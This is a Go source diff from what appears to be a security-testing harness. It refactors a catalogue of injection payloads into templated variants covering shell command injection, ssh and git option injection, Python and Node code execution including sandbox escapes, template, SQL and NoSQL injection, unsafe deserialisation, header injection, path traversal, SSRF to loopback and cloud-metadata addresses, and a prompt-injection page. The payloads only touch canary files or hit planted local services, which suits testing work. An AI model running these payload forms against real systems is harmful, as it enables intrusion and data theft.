@@ -5,6 +5,8 @@ import (
 	"fmt"
 	"net/url"
 	"path"
+	"slices"
+	"strconv"
 	"strings"
 
 	"gauntlet/internal/leaf/probe"
@@ -63,16 +65,67 @@ type Payload struct {
 	Escapes bool
 }
 
-// variant returns one payload of a class; ok is false if the place lacks what it needs.
-type variant func(m Mark, p Place, seed string) (Payload, bool)
+// A variant is one form of a class's payloads. Its texts hold the names of values in braces, as in "{seed}; touch {touch} #": see
+// [words]. Where the place lacks one of them there is no payload.
+type variant struct {
+	name    string
+	value   string
+	expect  []probe.Kind
+	leads   string
+	whole   string
+	escapes bool
+	encode  func(string) string            // of the whole value; nil for none
+	plant   func(m *Mark, p *Place) []byte // content of the file that must exist at the value; nil for none
+}
+
+// like returns variants with the properties of one, by name and value.
+func like(v variant, named ...[2]string) (out []variant) {
+	for _, n := range named {
+		v.name, v.value = n[0], n[1]
+		out = append(out, v)
+	}
+	return out
+}
+
+// words returns the values of the names in variants.
+func (p *Place) words(m *Mark, seed string) map[string]string {
+	out := map[string]string{
+		"{touch}": m.Touch, "{token}": m.Token, "{expression}": m.expression(), "{root}": p.Root, "{outside}": p.Outside, "{outside.json}": p.OutsideJS,
+		"{sibling}": p.Sibling, "{linked}": p.Linked, "{folder}": p.Folder, "{drop}": p.WriteDir, "{metadata}": p.Metadata, "{private}": p.Private, "{named}": p.Named,
+		"{redirect}": p.Redirect, "{to-cloud}": p.ToCloud, "{seed}": seed,
+		"{relative-link}": strings.TrimPrefix(p.Linked, p.Root+"/"), "{relative}": strings.TrimPrefix(p.Outside, "/"), "{beside}": strings.TrimPrefix(p.Sibling, path.Dir(p.Root)), "{metadata-path}": strings.TrimPrefix(p.Metadata, "http://"+metadataHost),
+		"{port}": "", "{folder-name}": "",
+	}
+	if p.Port != 0 {
+		out["{port}"] = strconv.Itoa(p.Port)
+	}
+	if p.Folder != "" {
+		out["{folder-name}"] = path.Base(p.Folder)
+	}
+	return out
+}
 
 // Payloads returns the number of a target's payloads.
 func (t *Target) Payloads() int { return len(t.variants) }
 
-// Payload returns a target's n-th payload.
-func (t *Target) Payload(n int, m Mark, p Place, seed string) (Payload, bool) {
-	made, ok := t.variants[n](m, p, seed)
-	made.set(made.Value)
+// Payload returns a target's n-th payload; ok is false if the place lacks what it needs.
+func (t *Target) Payload(n int, m Mark, p Place, seed string) (made Payload, ok bool) {
+	v, ok := &t.variants[n], true
+	var pairs []string
+	for name, value := range p.words(&m, seed) {
+		ok = ok && (value != "" || name == "{seed}" || !strings.Contains(v.value, name))
+		pairs = append(pairs, name, value)
+	}
+	fill := strings.NewReplacer(pairs...)
+	made = Payload{Variant: v.name, Expect: v.expect, Leads: v.leads, Whole: fill.Replace(v.whole), Escapes: v.escapes}
+	value := fill.Replace(v.value)
+	if v.encode != nil {
+		value = v.encode(value)
+	}
+	if v.plant != nil {
+		made.Plant = &Planted{value, v.plant(&m, &p)}
+	}
+	made.set(value)
 	return made, ok
 }
 
@@ -82,290 +135,159 @@ func (p *Payload) set(value any) {
 	p.Text, _ = value.(string)
 }
 
-// command returns a payload that makes a shell create a file.
-func command(name, format string) variant {
-	return func(m Mark, _ Place, seed string) (Payload, bool) {
-		return Payload{Variant: name, Value: seed + fmt.Sprintf(format, m.Touch), Expect: []probe.Kind{probe.File}, Whole: "touch " + m.Touch}, true
-	}
-}
+// What shows that payloads worked.
+var (
+	fileAppears     = []probe.Kind{probe.File}
+	productAppears  = []probe.Kind{probe.Product}
+	contentAppears  = []probe.Kind{probe.Content}
+	serviceIsCalled = []probe.Kind{probe.Callback}
+	serviceIsRead   = []probe.Kind{probe.Content, probe.Callback}
+)
 
 // commandVariants are ways to add a command, most widely effective first.
-var commandVariants = []variant{
-	command("command substitution", "$(touch %s)"),
-	command("after a semicolon", "; touch %s #"),
-	command("out of double quotes", `"; touch %s #`),
-	command("out of single quotes", `'; touch %s #`),
-	command("backquotes", "`touch %s`"),
+var commandVariants = like(variant{expect: fileAppears, whole: "touch {touch}"},
+	[2]string{"command substitution", "{seed}$(touch {touch})"},
+	[2]string{"after a semicolon", "{seed}; touch {touch} #"},
+	[2]string{"out of double quotes", `{seed}"; touch {touch} #`},
+	[2]string{"out of single quotes", `{seed}'; touch {touch} #`},
+	[2]string{"backquotes", "{seed}`touch {touch}`"},
 	// A tool may offer pipes of allowed programs, possibly touch; only a shell performs the redirection.
-	command("after a pipe", "|: >%s"),
-	command("after a line break", "\ntouch %s\n"),
-	command("without spaces", "$(touch${IFS}%s)"),
-	command("after &&", " && touch %s"),
-}
+	[2]string{"after a pipe", "{seed}|: >{touch}"},
+	[2]string{"after a line break", "{seed}\ntouch {touch}\n"},
+	[2]string{"without spaces", "{seed}$(touch${IFS}{touch})"},
+	[2]string{"after &&", "{seed} && touch {touch}"},
+)
 
 // pipelineVariants keep the beginning and end of a checked command line.
-var pipelineVariants = []variant{
-	command("substitution in a pipeline", " | cat $(touch %s)"),
-	command("after a pipeline", " | cat; touch %s"),
-}
+var pipelineVariants = like(variant{expect: fileAppears, whole: "touch {touch}"},
+	[2]string{"substitution in a pipeline", "{seed} | cat $(touch {touch})"},
+	[2]string{"after a pipeline", "{seed} | cat; touch {touch}"},
+)
 
-// option returns a value that a program reads as an option.
-func option(name string, make func(m Mark, seed string) string, expect ...probe.Kind) variant {
-	return func(m Mark, _ Place, seed string) (Payload, bool) {
-		return Payload{Variant: name, Value: make(m, seed), Expect: expect}, true
-	}
-}
-
+// argumentVariants are values that a program reads as an option.
 var argumentVariants = []variant{
-	option("an option behind a space", func(m Mark, seed string) string { return seed + " --gauntlet-" + m.Token + "=1" }, probe.Program),
-	option("ssh's ProxyCommand", func(m Mark, _ string) string { return "-oProxyCommand=touch " + m.Touch }, probe.File, probe.Program),
-	option("an option instead of a name", func(m Mark, _ string) string { return "--gauntlet-" + m.Token + "=1" }, probe.Program),
-	option("git's --output", func(m Mark, _ string) string { return "--output=" + m.Touch }, probe.File, probe.Program),
-	option("git's upload-pack", func(m Mark, _ string) string { return "--upload-pack=touch " + m.Touch }, probe.File, probe.Program),
-}
-
-func code(name, format string) variant {
-	return func(m Mark, _ Place, _ string) (Payload, bool) {
-		return Payload{Variant: name, Value: fmt.Sprintf(format, m.Touch), Expect: []probe.Kind{probe.File}}, true
-	}
-}
-
-// escape returns code that works without what a tool removed from the environment of code.
-func escape(name, format string) variant {
-	return func(m Mark, _ Place, _ string) (Payload, bool) {
-		return Payload{Variant: name, Value: fmt.Sprintf(format, m.Touch), Expect: []probe.Kind{probe.File}, Escapes: true}, true
-	}
+	{name: "an option behind a space", value: "{seed} --gauntlet-{token}=1", expect: []probe.Kind{probe.Program}},
+	{name: "ssh's ProxyCommand", value: "-oProxyCommand=touch {touch}", expect: []probe.Kind{probe.File, probe.Program}},
+	{name: "an option instead of a name", value: "--gauntlet-{token}=1", expect: []probe.Kind{probe.Program}},
+	{name: "git's --output", value: "--output={touch}", expect: []probe.Kind{probe.File, probe.Program}},
+	{name: "git's upload-pack", value: "--upload-pack=touch {touch}", expect: []probe.Kind{probe.File, probe.Program}},
 }
 
 // jsRun makes Node run a command, from a script or a module.
-const jsRun = "(process.mainModule?process.mainModule.require('child_process'):process.getBuiltinModule('child_process')).execSync('touch %s')"
+const jsRun = "(process.mainModule?process.mainModule.require('child_process'):process.getBuiltinModule('child_process')).execSync('touch {touch}')"
 
-var codeVariants = []variant{
-	code("Python", "__import__('os').system('touch %s')"),
-	code("JavaScript", "require('child_process').execSync('touch %s')"),
-	code("JavaScript without require", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch %s')"),
-	escape("Python without builtins", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['system']('touch %s')"),
-	escape("out of a JavaScript string", "');require('child_process').execSync('touch %s');//"),
-	escape("out of a Python string", "'+str(__import__('os').system('touch %s'))+'"),
-}
+var codeVariants = slices.Concat(
+	like(variant{expect: fileAppears},
+		[2]string{"Python", "__import__('os').system('touch {touch}')"},
+		[2]string{"JavaScript", "require('child_process').execSync('touch {touch}')"},
+		[2]string{"JavaScript without require", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch {touch}')"},
+	),
+	// Code that works without what a tool removed from the environment of code.
+	like(variant{expect: fileAppears, escapes: true},
+		[2]string{"Python without builtins", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['system']('touch {touch}')"},
+		[2]string{"out of a JavaScript string", "');require('child_process').execSync('touch {touch}');//"},
+		[2]string{"out of a Python string", "'+str(__import__('os').system('touch {touch}'))+'"},
+	))
 
 var templateVariants = []variant{
-	func(m Mark, _ Place, seed string) (Payload, bool) {
-		e := m.expression()
-		return Payload{Variant: "five template languages", Value: seed + "{{" + e + "}}${" + e + "}<%= " + e + " %>#{" + e + "}{%=" + e + "%}", Expect: []probe.Kind{probe.Product}}, true
-	},
-	func(m Mark, _ Place, _ string) (Payload, bool) {
-		return Payload{Variant: "double braces alone", Value: "{{" + m.expression() + "}}", Expect: []probe.Kind{probe.Product}}, true
-	},
-	func(m Mark, _ Place, _ string) (Payload, bool) {
-		value := fmt.Sprintf("{{cycler.__init__.__globals__.os.popen('touch %s').read()}}<%%= "+jsRun+" %%>", m.Touch, m.Touch)
-		return Payload{Variant: "code in two template languages", Value: value, Expect: []probe.Kind{probe.File}, Escapes: true}, true
-	},
+	{name: "five template languages", value: "{seed}{{{expression}}}${{expression}}<%= {expression} %>#{{expression}}{%={expression}%}", expect: productAppears},
+	{name: "double braces alone", value: "{{{expression}}}", expect: productAppears},
+	{name: "code in two template languages", value: "{{cycler.__init__.__globals__.os.popen('touch {touch}').read()}}<%= " + jsRun + " %>", expect: fileAppears, escapes: true},
 }
 
-func statement(name string, write func(product, seed string) string) variant {
-	return func(m Mark, _ Place, seed string) (Payload, bool) {
-		e := m.expression()
-		return Payload{Variant: name, Value: write(e, seed), Expect: []probe.Kind{probe.Product}, Whole: "SELECT " + e}, true
-	}
-}
+var sqlVariants = like(variant{expect: productAppears, whole: "SELECT {expression}"},
+	[2]string{"a query in the place of a name", "(SELECT {expression} AS a)"},
+	[2]string{"UNION behind a quotation mark", "{seed}' UNION SELECT {expression}-- "},
+	[2]string{"UNION behind a name", "{seed} UNION SELECT {expression} -- "},
+	[2]string{"UNION with two columns", "{seed}' UNION SELECT {expression},{expression}-- "},
+	[2]string{"UNION with three columns", "{seed}' UNION SELECT {expression},{expression},{expression}-- "},
+	[2]string{"UNION with four columns", "{seed}' UNION SELECT {expression},{expression},{expression},{expression}-- "},
+	[2]string{"a sum in a string", "{seed}'||({expression})||'"},
+)
 
-var sqlVariants = []variant{
-	statement("a query in the place of a name", func(p, _ string) string { return "(SELECT " + p + " AS a)" }),
-	statement("UNION behind a quotation mark", func(p, s string) string { return s + "' UNION SELECT " + p + "-- " }),
-	statement("UNION behind a name", func(p, s string) string { return s + " UNION SELECT " + p + " -- " }),
-	statement("UNION with two columns", func(p, s string) string { return s + "' UNION SELECT " + p + "," + p + "-- " }),
-	statement("UNION with three columns", func(p, s string) string { return s + "' UNION SELECT " + p + "," + p + "," + p + "-- " }),
-	statement("UNION with four columns", func(p, s string) string {
-		return s + "' UNION SELECT " + p + "," + p + "," + p + "," + p + "-- "
-	}),
-	statement("a sum in a string", func(p, s string) string { return s + "'||(" + p + ")||'" }),
-}
-
-var noSQLVariants = []variant{
-	func(m Mark, _ Place, seed string) (Payload, bool) {
-		return Payload{Variant: "code in a condition", Value: seed + "'; return " + m.expression() + "; //", Expect: []probe.Kind{probe.Product}, Whole: m.expression()}, true
-	},
-}
+var noSQLVariants = []variant{{name: "code in a condition", value: "{seed}'; return {expression}; //", expect: productAppears, whole: "{expression}"}}
 
 var deserialisationVariants = []variant{
-	code("Python object in YAML", "!!python/object/apply:os.system [\"touch %s\"]"),
-	func(m Mark, _ Place, _ string) (Payload, bool) {
-		pickle := "cos\nsystem\n(S'touch " + m.Touch + "'\ntR."
-		return Payload{Variant: "Python pickle in base64", Value: base64.StdEncoding.EncodeToString([]byte(pickle)), Expect: []probe.Kind{probe.File}}, true
-	},
-	code("function in YAML of JavaScript", "toString: !!js/function \"function(){return "+jsRun+"}\"\n"),
-	code("function in node-serialize", `{"a":"_$$ND_FUNC$$_function(){require('child_process').execSync('touch %s')}()"}`),
+	{name: "Python object in YAML", value: `!!python/object/apply:os.system ["touch {touch}"]`, expect: fileAppears},
+	{name: "Python pickle in base64", value: "cos\nsystem\n(S'touch {touch}'\ntR.", expect: fileAppears, encode: func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }},
+	{name: "function in YAML of JavaScript", value: `toString: !!js/function "function(){return ` + jsRun + "}\"\n", expect: fileAppears},
+	{name: "function in node-serialize", value: `{"a":"_$$ND_FUNC$$_function(){require('child_process').execSync('touch {touch}')}()"}`, expect: fileAppears},
 }
 
 var crlfVariants = []variant{
-	func(m Mark, p Place, _ string) (Payload, bool) {
-		return Payload{Variant: "a header behind a line break", Value: fmt.Sprintf("http://127.0.0.1:%d/%s\r\nX-Gauntlet-%s: 1", p.Port, m.Token+"c", m.Token), Expect: []probe.Kind{probe.Callback}, Leads: "header"}, p.Port != 0
-	},
-}
-
-// line returns a value that continues on a new line.
-func line(name, end string) variant {
-	return func(m Mark, _ Place, seed string) (Payload, bool) {
-		field := "X-Gauntlet-" + m.Token + ": 1"
-		return Payload{Variant: name, Value: seed + end + field, Expect: []probe.Kind{probe.Callback}, Leads: "header", Whole: field}, true
-	}
+	{name: "a header behind a line break", value: "http://127.0.0.1:{port}/{token}c\r\nX-Gauntlet-{token}: 1", expect: serviceIsCalled, leads: "header"},
 }
 
 // lineVariants add a header field to a request or a mail.
-var lineVariants = []variant{line("a header behind a line break in a text", "\r\n"), line("a header behind a line feed in a text", "\n")}
-
-// file returns a path that leads to planted content.
-func file(name, leads string, spell func(p Place) string) variant {
-	return func(_ Mark, p Place, _ string) (Payload, bool) {
-		v := spell(p)
-		return Payload{Variant: name, Value: v, Expect: []probe.Kind{probe.Content}, Leads: leads}, v != ""
-	}
-}
+var lineVariants = like(variant{expect: serviceIsCalled, leads: "header", whole: "X-Gauntlet-{token}: 1"},
+	[2]string{"a header behind a line break in a text", "{seed}\r\nX-Gauntlet-{token}: 1"},
+	[2]string{"a header behind a line feed in a text", "{seed}\nX-Gauntlet-{token}: 1"},
+)
 
 const climb = "../../../../../../../../../../../.."
 
-func behind(before, path string) string {
-	if path == "" {
-		return ""
-	}
-	return before + path
-}
-
 var traversalVariants = []variant{
-	file("absolute path", "outside", func(p Place) string { return p.Outside }),
-	file("../", "outside", func(p Place) string { return behind(climb, p.Outside) }),
-	func(m Mark, p Place, _ string) (Payload, bool) {
-		return Payload{Variant: "absolute path, written", Value: p.WriteDir + "/" + m.Token + ".json", Expect: []probe.Kind{probe.File}}, p.WriteDir != ""
-	},
-	func(m Mark, p Place, _ string) (Payload, bool) {
-		return Payload{Variant: "../, written", Value: climb + p.WriteDir + "/" + m.Token, Expect: []probe.Kind{probe.File}}, p.WriteDir != ""
-	},
-	file("absolute path of a JSON document", "outside", func(p Place) string { return p.OutsideJS }),
-	file("from the project folder with ../", "outside", func(p Place) string { return behind(p.Root+"/"+climb, p.Outside) }),
-	file("encoded ../", "outside", func(p Place) string {
-		if p.Outside == "" {
-			return ""
-		}
-		return strings.Repeat("..%2f", 12) + strings.TrimPrefix(p.Outside, "/")
-	}),
-	file("file:// address", "outside", func(p Place) string { return behind("file://", p.Outside) }),
-	file("encoded as a whole", "outside", func(p Place) string {
-		if p.Outside == "" {
-			return ""
-		}
-		return strings.ReplaceAll(url.PathEscape(climb+p.Outside), ".", "%2e")
-	}),
-	file("file:// address with ../", "outside", func(p Place) string { return behind("file://"+p.Root+"/"+climb, p.Outside) }),
-	file("....//", "outside", func(p Place) string { return behind(strings.Repeat("....//", 12), strings.TrimPrefix(p.Outside, "/")) }),
-	file("behind a NUL", "outside", func(p Place) string {
-		if p.Outside == "" {
-			return ""
-		}
-		return p.Outside + "\x00.txt"
-	}),
+	{name: "absolute path", value: "{outside}", expect: contentAppears, leads: "outside"},
+	{name: "../", value: climb + "{outside}", expect: contentAppears, leads: "outside"},
+	{name: "absolute path, written", value: "{drop}/{token}.json", expect: fileAppears},
+	{name: "../, written", value: climb + "{drop}/{token}", expect: fileAppears},
+	{name: "absolute path of a JSON document", value: "{outside.json}", expect: contentAppears, leads: "outside"},
+	{name: "from the project folder with ../", value: "{root}/" + climb + "{outside}", expect: contentAppears, leads: "outside"},
+	{name: "encoded ../", value: strings.Repeat("..%2f", 12) + "{relative}", expect: contentAppears, leads: "outside"},
+	{name: "file:// address", value: "file://{outside}", expect: contentAppears, leads: "outside"},
+	{name: "encoded as a whole", value: climb + "{outside}", expect: contentAppears, leads: "outside", encode: func(s string) string { return strings.ReplaceAll(url.PathEscape(s), ".", "%2e") }},
+	{name: "file:// address with ../", value: "file://{root}/" + climb + "{outside}", expect: contentAppears, leads: "outside"},
+	{name: "....//", value: strings.Repeat("....//", 12) + "{relative}", expect: contentAppears, leads: "outside"},
+	{name: "behind a NUL", value: "{outside}\x00.txt", expect: contentAppears, leads: "outside"},
 }
 
-var symlinkVariants = []variant{
-	file("a link in the project folder", "symlink", func(p Place) string { return p.Linked }),
-	file("a link in a folder that the command names", "symlink", func(p Place) string { return inFolder(p, "/shortcut/linked.txt") }),
-	file("a link, relative", "symlink", func(p Place) string {
-		if p.Linked == "" {
-			return ""
-		}
-		return "shortcut/linked.txt"
-	}),
-}
+var symlinkVariants = like(variant{expect: contentAppears, leads: "symlink"},
+	[2]string{"a link in the project folder", "{linked}"},
+	[2]string{"a link in a folder that the command names", "{folder}/shortcut/linked.txt"},
+	[2]string{"a link, relative", "{relative-link}"},
+)
 
-// inFolder returns a path that begins like the start command's folder.
-func inFolder(p Place, rest string) string {
-	if p.Folder == "" {
-		return ""
-	}
-	return p.Folder + rest
-}
+var prefixVariants = like(variant{expect: contentAppears, leads: "sibling"},
+	[2]string{"a folder whose name begins with the project's", "{sibling}"},
+	[2]string{"the same by ../", "{root}/..{beside}"},
+	[2]string{"a folder whose name begins with that of one that the command names", "{folder}-private/canary.txt"},
+	[2]string{"the same by ../ alone", "../{folder-name}-private/canary.txt"},
+)
 
-var prefixVariants = []variant{
-	file("a folder whose name begins with the project's", "sibling", func(p Place) string { return p.Sibling }),
-	file("the same by ../", "sibling", func(p Place) string {
-		if p.Sibling == "" {
-			return ""
-		}
-		at := strings.LastIndexByte(p.Root, '/')
-		return p.Root + "/.." + p.Sibling[at:]
-	}),
-	file("a folder whose name begins with that of one that the command names", "sibling", func(p Place) string { return inFolder(p, "-private/canary.txt") }),
-	file("the same by ../ alone", "sibling", func(p Place) string {
-		if p.Folder == "" {
-			return ""
-		}
-		return "../" + path.Base(p.Folder) + "-private/canary.txt"
-	}),
-}
-
-// inner returns an address of the planted service.
-func inner(name, format string) variant {
-	return func(m Mark, p Place, _ string) (Payload, bool) {
-		return Payload{Variant: name, Value: fmt.Sprintf(format, p.Port) + m.Token, Expect: []probe.Kind{probe.Content, probe.Callback}, Leads: "service"}, p.Port != 0
-	}
-}
-
-// elsewhere returns another way to a planted service.
-func elsewhere(name string, address func(p Place) string) variant {
-	return func(m Mark, p Place, _ string) (Payload, bool) {
-		a := address(p)
-		return Payload{Variant: name, Value: a + "/" + m.Token, Expect: []probe.Kind{probe.Content, probe.Callback}, Leads: "service"}, a != ""
-	}
-}
-
-var ssrfVariants = []variant{
-	inner("127.0.0.1", "http://127.0.0.1:%d/"),
-	inner("IPv4 in IPv6", "http://[::ffff:7f00:1]:%d/"),
-	inner("localhost", "http://localhost:%d/"),
-	elsewhere("a redirect", func(p Place) string { return p.Redirect }),
-	file("file://", "outside", func(p Place) string { return behind("file://", p.Outside) }),
-	elsewhere("a private address", func(p Place) string { return behind("http://", p.Private) }),
-	elsewhere("a name that leads to the loopback address", func(p Place) string { return behind("http://", p.Named) }),
-	inner("one number", "http://2130706433:%d/"),
-	inner("0.0.0.0", "http://0.0.0.0:%d/"),
-	inner("behind a user name", "http://example.com@127.0.0.1:%d/"),
-	inner("short form", "http://127.1:%d/"),
-}
+// ssrfVariants are addresses of the planted service, and other ways to it.
+var ssrfVariants = slices.Concat(
+	like(variant{expect: serviceIsRead, leads: "service"},
+		[2]string{"127.0.0.1", "http://127.0.0.1:{port}/{token}"},
+		[2]string{"IPv4 in IPv6", "http://[::ffff:7f00:1]:{port}/{token}"},
+		[2]string{"localhost", "http://localhost:{port}/{token}"},
+		[2]string{"a redirect", "{redirect}/{token}"},
+	),
+	[]variant{{name: "file://", value: "file://{outside}", expect: contentAppears, leads: "outside"}},
+	like(variant{expect: serviceIsRead, leads: "service"},
+		[2]string{"a private address", "http://{private}/{token}"},
+		[2]string{"a name that leads to the loopback address", "http://{named}/{token}"},
+		[2]string{"one number", "http://2130706433:{port}/{token}"},
+		[2]string{"0.0.0.0", "http://0.0.0.0:{port}/{token}"},
+		[2]string{"behind a user name", "http://example.com@127.0.0.1:{port}/{token}"},
+		[2]string{"short form", "http://127.1:{port}/{token}"},
+	))
 
 var hostVariants = []variant{
-	func(m Mark, p Place, _ string) (Payload, bool) {
-		return Payload{Variant: "127.0.0.1 with a port", Value: fmt.Sprintf("127.0.0.1:%d", p.Port), Expect: []probe.Kind{probe.Callback}, Leads: "service"}, p.Port != 0
-	},
-	inner("address with a path", "127.0.0.1:%d/"),
+	{name: "127.0.0.1 with a port", value: "127.0.0.1:{port}", expect: serviceIsCalled, leads: "service"},
+	{name: "address with a path", value: "127.0.0.1:{port}/{token}", expect: serviceIsRead, leads: "service"},
 }
 
-var metadataVariants = []variant{
-	func(_ Mark, p Place, _ string) (Payload, bool) {
-		return Payload{Variant: "169.254.169.254", Value: p.Metadata, Expect: []probe.Kind{probe.Content}, Leads: "metadata"}, p.Metadata != ""
-	},
-	func(_ Mark, p Place, _ string) (Payload, bool) {
-		return Payload{Variant: "169.254.169.254 in IPv6", Value: strings.Replace(p.Metadata, "169.254.169.254", "[::ffff:a9fe:a9fe]", 1), Expect: []probe.Kind{probe.Content}, Leads: "metadata"}, p.Metadata != ""
-	},
-	func(_ Mark, p Place, _ string) (Payload, bool) {
-		to := p.ToCloud + strings.TrimPrefix(p.Metadata, "http://169.254.169.254")
-		return Payload{Variant: "a redirect", Value: to, Expect: []probe.Kind{probe.Content}, Leads: "metadata"}, p.ToCloud != ""
-	},
-	func(_ Mark, p Place, _ string) (Payload, bool) {
-		return Payload{Variant: "169.254.169.254 as a number", Value: strings.Replace(p.Metadata, "169.254.169.254", "2852039166", 1), Expect: []probe.Kind{probe.Content}, Leads: "metadata"}, p.Metadata != ""
-	},
-}
+const metadataHost = "169.254.169.254"
 
-var requestPathVariants = []variant{
-	func(m Mark, _ Place, _ string) (Payload, bool) {
-		return Payload{Variant: "../", Value: "../" + m.Token, Expect: []probe.Kind{probe.Callback}, Leads: "parent"}, true
-	},
-	func(m Mark, _ Place, _ string) (Payload, bool) {
-		return Payload{Variant: "encoded ../", Value: url.PathEscape("../") + m.Token, Expect: []probe.Kind{probe.Callback}, Leads: "parent"}, true
-	},
-}
+var metadataVariants = like(variant{expect: contentAppears, leads: "metadata"},
+	[2]string{metadataHost, "{metadata}"},
+	[2]string{metadataHost + " in IPv6", "http://[::ffff:a9fe:a9fe]{metadata-path}"},
+	[2]string{"a redirect", "{to-cloud}{metadata-path}"},
+	[2]string{metadataHost + " as a number", "http://2852039166{metadata-path}"},
+)
+
+var requestPathVariants = like(variant{expect: serviceIsCalled, leads: "parent"}, [2]string{"../", "../{token}"}, [2]string{"encoded ../", "..%2F{token}"})
 
 var passthroughVariants = []variant{
-	func(m Mark, p Place, _ string) (Payload, bool) {
-		return Payload{Variant: "a page with an order to the model", Value: fmt.Sprintf("http://127.0.0.1:%d/page/%s", p.Port, m.Token), Expect: []probe.Kind{probe.Content}, Leads: "page"}, p.Port != 0
-	},
+	{name: "a page with an order to the model", value: "http://127.0.0.1:{port}/page/{token}", expect: contentAppears, leads: "page"},
 }
